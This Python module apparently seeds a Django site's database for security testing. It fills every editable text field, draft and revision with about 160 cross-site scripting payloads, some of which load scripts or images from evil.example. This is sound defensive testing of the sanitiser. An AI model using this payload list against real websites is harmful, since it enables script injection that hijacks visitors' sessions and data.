"""Texts that try to run as scripts, and a site in which every text that officers can write is made of them.

Each calls xss() with its number, or asks evil.example for it. So whatever runs, or is fetched, tells which it was.
"""

import json
from itertools import cycle, product
from typing import Any

from django.apps import apps
from django.conf import settings
from django.contrib.auth.models import User
from django.db import DatabaseError, models, transaction

from meetings.models.days import DaysField
from pages.models import Section
from sosafe_site.periods import today
from sosafe_site.publishing.clock import moment
from sosafe_site.publishing.models import Revision
from sosafe_site.publishing.models.publishable import Publishable
from sosafe_site.publishing.revisions.history import FIRST, keep
from sosafe_site.publishing.revisions.snapshot import snapshot
from sosafe_site.publishing.text.field import RichTextField
from sosafe_site.publishing.text.sanitise import clean_html

# {call} is what would run, {evil} what would be asked, {n} the number of the payload
ELEMENTS = [
    "<script>{call}</script>",
    "<script src={evil}></script>",
    "<SCRIPT >{call}</SCRIPT >",
    "<scr<script>ipt>{call}</script>",
    "<script/x>{call}</script>",
    "<script\n>{call}</script\n>",
    "<<script>{call}//<</script>",
    "<script>{call}",
    "<img src=x onerror={call}>",
    "<img/src=x/onerror={call}>",
    "<img src=`x` onerror={call}>",
    "<image src=x onerror={call}>",
    "<img src=x:x onerror\n=\n{call}>",
    "<IMG SRC=x OnErRoR={call}>",
    '<img src="x" alt="`" onerror="{call}">',
    "<img src={evil}>",
    "<img srcset='{evil} 1x'>",
    "<svg onload={call}>",
    "<svg/onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><script>&#120;ss({n})</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x onload={call}>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>a</text></a></svg>",
    "<svg><image href={evil} onerror={call}></svg>",
    "<svg><foreignObject><iframe onload={call}></iframe></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to={call}>",
    "<math><mtext><script>{call}</script></mtext></math>",
    "<math><a xlink:href='javascript:{call}'>a</a></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:{call}'>a</maction></math>",
    "<body onload={call}>",
    "<body background={evil}>",
    "<html onmouseover={call}>",
    "<iframe src='javascript:{call}'></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.{call}&lt;/script&gt;'></iframe>",
    "<iframe src='data:text/html,<script>{call}</script>'></iframe>",
    "<iframe src={evil}></iframe>",
    "<iframe onload={call}></iframe>",
    "<frameset onload={call}>",
    "<object data='javascript:{call}'></object>",
    "<object data={evil}></object>",
    "<embed src={evil}>",
    "<embed src='javascript:{call}'>",
    "<applet code={evil}></applet>",
    "<video onerror={call}><source src=x></video>",
    "<video src=x onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<video poster={evil}></video>",
    "<input autofocus onfocus={call}>",
    "<input type=image src=x onerror={call}>",
    "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<button autofocus onfocus={call}>a</button>",
    "<keygen autofocus onfocus={call}>",
    "<details open ontoggle={call}>a</details>",
    "<marquee onstart={call}>a</marquee>",
    "<marquee loop=1 width=0 onfinish={call}>a</marquee>",
    "<p onclick={call}>a</p>",
    "<p onpointerenter={call} style='position:fixed;inset:0'>a</p>",
    "<p tabindex=1 onfocus={call} autofocus>a</p>",
    "<a href='javascript:{call}'>a</a>",
    "<a href='JaVaScRiPt:{call}'>a</a>",
    "<a href=' javascript:{call}'>a</a>",
    "<a href='java\tscript:{call}'>a</a>",
    "<a href='java\nscript:{call}'>a</a>",
    "<a href='java&#10;script:{call}'>a</a>",
    "<a href='&#106;avascript:{call}'>a</a>",
    "<a href='&#x6A;avascript:{call}'>a</a>",
    "<a href='javascript&colon;{call}'>a</a>",
    "<a href='&Tab;javascript:{call}'>a</a>",
    "<a href='\x01javascript:{call}'>a</a>",
    "<a href='javascript://%0a{call}'>a</a>",
    "<a href='data:text/html,<script>{call}</script>'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD54c3MoMCk8L3NjcmlwdD4=' onfocus={call} autofocus>a</a>",
    "<a href='vbscript:{call}'>a</a>",
    "<a href='blob:{call}'>a</a>",
    "<a href='view-source:javascript:{call}'>a</a>",
    '<a href="https://www.example.org/" onclick="{call}">a</a>',
    "<a href='/' ping={evil}>a</a>",
    "<area href='javascript:{call}'>",
    "<map><area href='javascript:{call}'></map>",
    "<form action='javascript:{call}'><button>a</button></form>",
    "<form><button formaction='javascript:{call}'>a</button></form>",
    "<form action={evil}><input name=a></form>",
    "<isindex action='javascript:{call}'>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href={evil}>",
    "<base href='javascript:{call}//'>",
    "<link rel=stylesheet href={evil}>",
    "<link rel=prefetch href={evil}>",
    "<link rel=import href={evil}>",
    "<style>@import '{evil}';</style>",
    "<style>*{{background:url({evil})}}</style>",
    "<p style='background:url({evil})'>a</p>",
    "<p style='width:expression({call})'>a</p>",
    '<p style="-moz-binding:url({evil})">a</p>',
    "<div style='list-style:url({evil})'>a</div>",
    "<table background={evil}><tr><td background={evil}>a</td></tr></table>",
    "<table><caption><script>{call}</script></caption></table>",
    "<template><script>{call}</script></template>",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    '<noembed><p title="</noembed><img src=x onerror={call}>">',
    '<style><a title="</style><img src=x onerror={call}>">',
    '<xmp><p title="</xmp><img src=x onerror={call}>">',
    '<textarea><p title="</textarea><img src=x onerror={call}>">',
    '<title><p title="</title><img src=x onerror={call}>">',
    "<math><mi><table><mglyph><style><img src=x onerror={call}></style></mglyph></table></mi></math>",
    '<svg></p><style><a id="</style><img src=x onerror={call}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={call}>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={call}></annotation-xml></math>",
    "<svg><desc><img src=x onerror={call}></desc></svg>",
    "<svg><title><style><img src=x onerror={call}></style></title></svg>",
    "<plaintext><img src=x onerror={call}>",
    "<listing>&lt;img src=x onerror={call}&gt;</listing>",
    "<!--><img src=x onerror={call}>-->",
    "<!--a--!><img src=x onerror={call}>-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml a='?><img src=x onerror={call}>'?>",
    "<x onclick={call}>a</x>",
    "<custom-element onfocus={call} tabindex=1 autofocus>a</custom-element>",
    "<dialog open onclose={call}><form method=dialog><button>a</button></form></dialog>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&lt;img src=x onerror={call}&gt;",
    "＜script＞{call}＜/script＞",
    "\u2028<script>{call}</script>",
    "<p>\ufeff<script>{call}</script></p>",
]
# Those that leave what they stand in: an attribute, a comment, a script, an address, a template, a calendar, a feed
ESCAPES = [
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" onfocus={call} autofocus x="',
    "' onfocus={call} autofocus x='",
    "` onfocus={call} autofocus x=`",
    "--><script>{call}</script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</script><script>{call}</script>",
    "</style><script>{call}</script>",
    "</option></select><img src=x onerror={call}>",
    "</summary></details><img src=x onerror={call}>",
    "';{call}//",
    '";{call}//',
    '\\";{call}//',
    "${{{call}}}",
    "{{{{{call}}}}}",
    "{{% debug %}}<img src=x onerror={call}>",
    "]]><script>{call}</script>",
    "</content><script xmlns='http://www.w3.org/1999/xhtml'>{call}</script>",
    "javascript:{call}",
    "%22%3E%3Cscript%3E{call}%3C/script%3E",
    "&quot;&gt;&lt;script&gt;{call}&lt;/script&gt;",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{call}//'>",
]

PAYLOADS = [
    text.format(n=number, call=f"xss({number})", evil=f"https://evil.example/{number}")
    for number, text in enumerate([*ELEMENTS, *ESCAPES])
]
SHORTEST = min(map(len, PAYLOADS))
LAST = "<p>What follows.</p>"
# Some, such as an open comment, hide all that follows: they come last, one to a text. The others share each text.
HIDING = [text for text in PAYLOADS if LAST not in clean_html(text + LAST)]
SHARING = "".join(f"{text}<p>After {n}.</p>" for n, text in enumerate(PAYLOADS) if text not in HIDING)
HIDDEN = cycle(HIDING)
OURS = {"pages", "meetings", "partners", "publishing"}
# What no officer writes: keys of records, names of programs, and the log that the database keeps from any change
NOT_WRITTEN = {"path", "model", "record", "suffix", "rule", "command", "leads_to", "link"}
NEVER = {"AuditEntry", "SentForm", "ContentMark"}


def written_fields(model: type[models.Model]) -> list[models.Field]:
    kinds = (models.CharField, models.TextField)
    return [
        field
        for field in model._meta.fields
        if isinstance(field, kinds) and not isinstance(field, models.SlugField | DaysField) and not field.choices
        if field.name not in NOT_WRITTEN or issubclass(model, Publishable)
    ]


def plant() -> list[str]:
    """Fills every such field of every record. Returns those in which the database itself refuses such text."""
    turns, refused, taken = cycle(PAYLOADS), set(), set()
    for model in (each for each in apps.get_models() if each._meta.app_label in OURS and each.__name__ not in NEVER):
        for record, field in product(model._default_manager.all(), written_fields(model)):
            (taken if write(record, field, turns) else refused).add(f"{model.__name__}.{field.name}")
    return sorted(refused - taken)


def write(record: models.Model, field: models.Field, turns: Any) -> bool:
    """As much as the field takes; a text without an end gets them all."""
    if isinstance(field, RichTextField):
        value = SHARING + next(HIDDEN)
    elif isinstance(field, models.URLField):
        value = "https://www.example.org/?" + next(turns)
    elif field.max_length is None:
        value = "\n".join(PAYLOADS)
    else:
        fitting = (text for text in turns if len(text) <= field.max_length)
        value = next(fitting) if field.max_length >= SHORTEST else '"><i>'
        while len(longer := value + next(turns)) <= field.max_length:
            value = longer
    try:
        with transaction.atomic():
            type(record)._default_manager.filter(pk=record.pk).update(**{field.name: value})
    except DatabaseError:
        return False
    return True


def prepare() -> None:
    """Plants, also in history and drafts. Leaves which fields were refused, drafts' links and first records' keys."""
    told: dict[str, Any] = {"refused": plant(), "drafts": [], "keys": {}, "text": Section.objects.first().body}
    officer = User.objects.get(username="officer")
    User.objects.filter(pk=officer.pk).update(first_name=PAYLOADS[0][:150], last_name=PAYLOADS[8][:150])
    for model in (each for each in apps.get_models() if issubclass(each, Publishable)):
        record = model._default_manager.first()
        keep(record, None, FIRST)
        keep(record, officer, "".join(PAYLOADS[:20]))
        draft = Revision(model=model._meta.label_lower, record=str(record.pk), content=snapshot(record))
        draft.state, draft.made_by, draft.words = Revision.State.DRAFT, officer, "".join(PAYLOADS[20:40])
        draft.change_note, draft.link_until, draft.base = PAYLOADS[8], moment().replace(year=today().year + 1), {}
        draft.save()
        told["drafts"].append(draft.get_link())
    for model in apps.get_models():
        if first := model._default_manager.first():
            told["keys"][model._meta.label] = str(first.pk)
    (settings.DATA_DIR / "planted").write_text(json.dumps(told))
